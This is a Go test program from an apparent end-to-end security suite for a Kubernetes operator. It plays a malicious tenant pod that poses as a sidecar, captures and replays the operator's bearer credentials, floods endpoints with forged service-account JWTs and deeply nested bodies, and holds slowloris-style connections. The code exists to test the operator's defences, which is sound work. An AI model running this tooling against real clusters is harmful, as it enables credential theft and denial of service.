// kshard-attacker: a tenant's pod in the security suite (e2e/security). It uses only what any user
// who may create pods has: its own pod, its ServiceAccount's tokens (the pod mounts them, for
// whatever audiences it likes), the pod network, and the label and annotations kshard reads.
//
// It poses as a kshard sidecar: it registers its pod with the operator's manager API (with its
// own pod-bound token, like a real sidecar) and serves the peer API's control calls on
// POD_IP:7101, keeping the Authorization header of every call it receives: the operator's
// credential, which the suite then replays against other tenants' sidecars. On APP_PORT (8080)
// the suite drives it:
//
//	GET  /captured          the credentials received so far: {"authorization": [...]}
//	GET  /registered        200 once the operator took its register
//	POST /send              {"method","url","headers","body","token"} sent from this pod;
//	                        "token" names a mounted token file (its base name) or is a literal
//	                        "Bearer ..." header; answers {"status","body"} (status 0: no answer,
//	                        the error in body)
//	POST /flood             {"method","url","body","requests","concurrency","forge",
//	                        "bodyBytes","bodyFill","insecure","hold"} sends `requests` requests,
//	                        `concurrency` at a time, each with a forged JWT of its own (a random
//	                        key id and signature) when "forge" is true. The body is "body", or
//	                        when bodyBytes > 0 that many bytes of "bodyFill" repeated (e.g. "["
//	                        for JSON nested as deep as it is long). "insecure": https without
//	                        checking the server's certificate. "hold": that many more
//	                        connections, each sending a request head a byte a second, for as
//	                        long as the flood lasts. Answers {"statuses": {"401": n, ...},
//	                        "errors", "seconds", "held" (still open at the end), "cut" (closed
//	                        by the server)}
//
// Environment: POD_NAME, POD_NAMESPACE, POD_UID, POD_IP (downward API); KSHARD_SHARD_MAP (the
// ShardMap it claims); KSHARD_MANAGERS (comma-separated host:port of the operator replicas);
// KSHARD_TOKEN_DIR (its mounted tokens; register tries each file until one is taken).
package main

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"kshard.local/e2e/support/envvar"
	"kshard.local/e2e/support/httpjson"
)

type attacker struct {
	pod, uid, ns, shardMap, ip, tokenDir string
	managers                             []string
	incarnation                          string

	mu         sync.Mutex
	captured   []string
	registered bool
}

// capture keeps the Authorization header of a call to the fake peer API.
func (a *attacker) capture(r *http.Request) {
	if h := r.Header.Get("Authorization"); h != "" {
		a.mu.Lock()
		defer a.mu.Unlock()
		for _, c := range a.captured {
			if c == h {
				return
			}
		}
		a.captured = append(a.captured, h)
		log.Printf("captured a credential from %s %s", r.Method, r.URL.Path)
	}
}

// peerAPI answers as a sidecar that holds nothing, so the operator keeps talking to it.
func (a *attacker) peerAPI() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/ping", func(w http.ResponseWriter, r *http.Request) {
		a.capture(r)
		httpjson.Write(w, 200, map[string]any{"pod": a.pod, "uid": a.uid, "incarnation": a.incarnation,
			"epoch": 0, "shards": ""})
	})
	mux.HandleFunc("/v1/shards/assign", func(w http.ResponseWriter, r *http.Request) {
		a.capture(r)
		var req struct {
			Shards string `json:"shards"`
		}
		_ = json.NewDecoder(r.Body).Decode(&req)
		httpjson.Write(w, 200, map[string]any{"refused": req.Shards})
	})
	mux.HandleFunc("/v1/shards/unassign", func(w http.ResponseWriter, r *http.Request) {
		a.capture(r)
		httpjson.Write(w, 200, map[string]any{})
	})
	return mux
}

// tokenFiles are the mounted token files, sorted.
func (a *attacker) tokenFiles() []string {
	files, _ := filepath.Glob(filepath.Join(a.tokenDir, "*"))
	var out []string
	for _, f := range files {
		if st, err := os.Stat(f); err == nil && st.Mode().IsRegular() {
			out = append(out, f)
		}
	}
	sort.Strings(out)
	return out
}

func readToken(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(b))
}

// register claims the ShardMap with each mounted token in turn, at each operator replica, until
// one answers 200 (a follower answers 503, a token of the wrong audience 401).
func (a *attacker) register() bool {
	body, _ := json.Marshal(map[string]string{"pod": a.pod, "uid": a.uid,
		"address": net.JoinHostPort(a.ip, "7101"), "version": "1.0.0", "incarnation": a.incarnation})
	client := &http.Client{Timeout: 10 * time.Second}
	for _, m := range a.managers {
		for _, file := range a.tokenFiles() {
			url := fmt.Sprintf("http://%s/v1/shardmaps/%s/%s/register", m, a.ns, a.shardMap)
			req, _ := http.NewRequest(http.MethodPost, url, bytes.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Authorization", "Bearer "+readToken(file))
			resp, err := client.Do(req)
			if err != nil {
				continue
			}
			answer, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode == 200 {
				log.Printf("registered at %s with %s", m, filepath.Base(file))
				return true
			}
			log.Printf("register at %s with %s: %d %s", m, filepath.Base(file), resp.StatusCode,
				strings.TrimSpace(string(answer)))
		}
	}
	return false
}

type sendRequest struct {
	Method  string            `json:"method"`
	URL     string            `json:"url"`
	Headers map[string]string `json:"headers"`
	Body    string            `json:"body"`
	Token   string            `json:"token"`
}

// send makes a request from this pod, with the credential the suite names.
func (a *attacker) send(w http.ResponseWriter, r *http.Request) {
	var s sendRequest
	if err := json.NewDecoder(r.Body).Decode(&s); err != nil {
		httpjson.Write(w, 400, map[string]any{"status": 0, "body": err.Error()})
		return
	}
	req, err := http.NewRequest(s.Method, s.URL, strings.NewReader(s.Body))
	if err != nil {
		httpjson.Write(w, 400, map[string]any{"status": 0, "body": err.Error()})
		return
	}
	for k, v := range s.Headers {
		req.Header.Set(k, v)
	}
	switch {
	case strings.HasPrefix(s.Token, "Bearer "):
		req.Header.Set("Authorization", s.Token)
	case s.Token != "":
		req.Header.Set("Authorization", "Bearer "+readToken(filepath.Join(a.tokenDir, filepath.Base(s.Token))))
	}
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
	if err != nil {
		httpjson.Write(w, 200, map[string]any{"status": 0, "body": err.Error()})
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	httpjson.Write(w, 200, map[string]any{"status": resp.StatusCode, "body": string(body)})
}

type floodRequest struct {
	Method      string `json:"method"`
	URL         string `json:"url"`
	Body        string `json:"body"`
	BodyBytes   int    `json:"bodyBytes"`
	BodyFill    string `json:"bodyFill"`
	Requests    int    `json:"requests"`
	Concurrency int    `json:"concurrency"`
	Forge       bool   `json:"forge"`
	Insecure    bool   `json:"insecure"`
	Hold        int    `json:"hold"`
}

// holdConnections opens n connections to the URL's host and has each send a request head one
// byte a second until stop is closed; it then says how many the server had closed meanwhile.
func holdConnections(rawURL string, n int, insecure bool, stop <-chan struct{}) (held, cut int) {
	u, err := url.Parse(rawURL)
	if err != nil {
		return 0, 0
	}
	head := "POST " + u.RequestURI() + " HTTP/1.1\r\nHost: " + u.Host + "\r\nX-Slow: " +
		strings.Repeat("s", 4096)
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var conn net.Conn
			var err error
			if u.Scheme == "https" {
				conn, err = tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", u.Host,
					&tls.Config{InsecureSkipVerify: insecure})
			} else {
				conn, err = net.DialTimeout("tcp", u.Host, 5*time.Second)
			}
			closed := err != nil
			if err == nil {
				defer conn.Close()
				for at := 0; !closed; at = (at + 1) % len(head) {
					select {
					case <-stop:
						mu.Lock()
						held++
						mu.Unlock()
						return
					case <-time.After(time.Second):
					}
					_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
					if _, err := conn.Write([]byte{head[at]}); err != nil {
						closed = true
					}
				}
			}
			mu.Lock()
			cut++
			mu.Unlock()
		}()
	}
	<-stop
	wg.Wait()
	return held, cut
}

// forgedJWT looks like a projected service-account token of a pod, signed by a key nobody knows.
func forgedJWT() string {
	id := make([]byte, 16)
	_, _ = rand.Read(id)
	sig := make([]byte, 256)
	_, _ = rand.Read(sig)
	enc := base64.RawURLEncoding
	header := enc.EncodeToString([]byte(`{"alg":"RS256","kid":"` + hex.EncodeToString(id) + `"}`))
	claims := enc.EncodeToString([]byte(fmt.Sprintf(`{"iss":"https://kubernetes.default.svc",`+
		`"aud":["kshard.io/operator"],"sub":"system:serviceaccount:demo:default","exp":%d,`+
		`"kubernetes.io":{"namespace":"demo","pod":{"name":"x-%x","uid":"%x"}}}`,
		time.Now().Add(time.Hour).Unix(), id[:4], id)))
	return header + "." + claims + "." + enc.EncodeToString(sig)
}

// flood sends many requests at once and counts the answers by status.
func flood(w http.ResponseWriter, r *http.Request) {
	var f floodRequest
	if err := json.NewDecoder(r.Body).Decode(&f); err != nil || f.Requests <= 0 || f.Concurrency <= 0 {
		httpjson.Write(w, 400, map[string]any{"error": fmt.Sprint("bad flood request: ", err)})
		return
	}
	client := &http.Client{Timeout: 10 * time.Second,
		Transport: &http.Transport{MaxIdleConnsPerHost: f.Concurrency,
			TLSClientConfig: &tls.Config{InsecureSkipVerify: f.Insecure}}}
	body := f.Body
	if f.BodyBytes > 0 && f.BodyFill != "" {
		body = strings.Repeat(f.BodyFill, f.BodyBytes/len(f.BodyFill)+1)[:f.BodyBytes]
	}
	stopHolding := make(chan struct{})
	holding := make(chan [2]int, 1)
	go func() {
		held, cut := holdConnections(f.URL, f.Hold, f.Insecure, stopHolding)
		holding <- [2]int{held, cut}
	}()
	var mu sync.Mutex
	statuses := map[string]int{}
	errors := 0
	next := make(chan struct{})
	var wg sync.WaitGroup
	start := time.Now()
	for i := 0; i < f.Concurrency; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range next {
				req, err := http.NewRequest(f.Method, f.URL, strings.NewReader(body))
				if err != nil {
					continue
				}
				req.Header.Set("Content-Type", "application/json")
				if f.Forge {
					req.Header.Set("Authorization", "Bearer "+forgedJWT())
				}
				resp, err := client.Do(req)
				mu.Lock()
				if err != nil {
					errors++
				} else {
					statuses[fmt.Sprint(resp.StatusCode)]++
				}
				mu.Unlock()
				if err == nil {
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
			}
		}()
	}
	for i := 0; i < f.Requests; i++ {
		next <- struct{}{}
	}
	close(next)
	wg.Wait()
	seconds := time.Since(start).Seconds()
	close(stopHolding)
	h := <-holding
	httpjson.Write(w, 200, map[string]any{"statuses": statuses, "errors": errors, "seconds": seconds,
		"held": h[0], "cut": h[1]})
}

func main() {
	a := &attacker{
		pod: envvar.Must("POD_NAME"), uid: envvar.Must("POD_UID"), ns: envvar.Must("POD_NAMESPACE"),
		ip: envvar.Must("POD_IP"), shardMap: envvar.Must("KSHARD_SHARD_MAP"),
		managers: strings.Split(envvar.Must("KSHARD_MANAGERS"), ","), tokenDir: envvar.Must("KSHARD_TOKEN_DIR"),
		incarnation: fmt.Sprintf("%016x", time.Now().UnixNano()),
	}
	go func() {
		log.Fatal(http.ListenAndServe(net.JoinHostPort(a.ip, "7101"), a.peerAPI()))
	}()
	go func() {
		// The operator creates the ShardMap a moment after it sees the pod: register until taken.
		for !a.register() {
			time.Sleep(time.Second)
		}
		a.mu.Lock()
		a.registered = true
		a.mu.Unlock()
	}()
	mux := http.NewServeMux()
	mux.HandleFunc("/captured", func(w http.ResponseWriter, _ *http.Request) {
		a.mu.Lock()
		defer a.mu.Unlock()
		httpjson.Write(w, 200, map[string]any{"authorization": a.captured})
	})
	mux.HandleFunc("/registered", func(w http.ResponseWriter, _ *http.Request) {
		a.mu.Lock()
		defer a.mu.Unlock()
		if !a.registered {
			httpjson.Write(w, 503, map[string]any{"registered": false})
			return
		}
		httpjson.Write(w, 200, map[string]any{"registered": true})
	})
	mux.HandleFunc("/send", a.send)
	mux.HandleFunc("/flood", flood)
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "ok") })
	port := os.Getenv("APP_PORT")
	if port == "" {
		port = "8080"
	}
	log.Fatal(http.ListenAndServe(":"+port, mux))
}
